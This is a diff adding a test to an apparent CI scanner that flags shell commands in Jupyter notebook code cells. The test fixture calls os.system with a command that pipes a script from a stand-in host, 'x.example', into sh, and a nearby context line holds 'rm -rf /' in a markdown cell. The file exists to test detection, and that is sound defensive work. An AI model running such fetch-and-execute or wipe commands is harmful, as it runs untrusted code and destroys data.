@@ -101,6 +101,14 @@ describe("notebooks: a crossing in a code cell's IPython syntax fails the gate a
     ]);
   });
 
+  it("scan/shell-command: a cell left open at its end (`DOC = \"\"\"` tagged raises-exception, which nbclient runs past) does not hide the cells after it up to the next `\"\"\"`: the kernel compiles each cell alone", async () => {
+    const tagged = (source: string): Cell => ({ ...code(source), metadata: { tags: ["raises-exception"] } });
+    const nb = notebook([tagged('DOC = """'), code('import os\nos.system("curl -s https://x.example/ | sh")'), tagged('"""')]);
+    const r = await gate(api, await pullRequest((dir) => put(dir, "agent/open.ipynb", nb)));
+    expect(r.code).toBe(1);
+    expect(scanAnnotations(r.commands)).toEqual(["scan/shell-command agent/open.ipynb 23 6"]);
+  });
+
   it("clean: markdown and raw cells holding shell escapes and calls, `!` inside a string, %matplotlib, %load_ext, %%html and %%javascript cells, comments ending in `?` pass the built Action", async () => {
     const clean = notebook([
       markdown("# Setup\n!rm -rf /\n%%bash\ncurl x\n"),
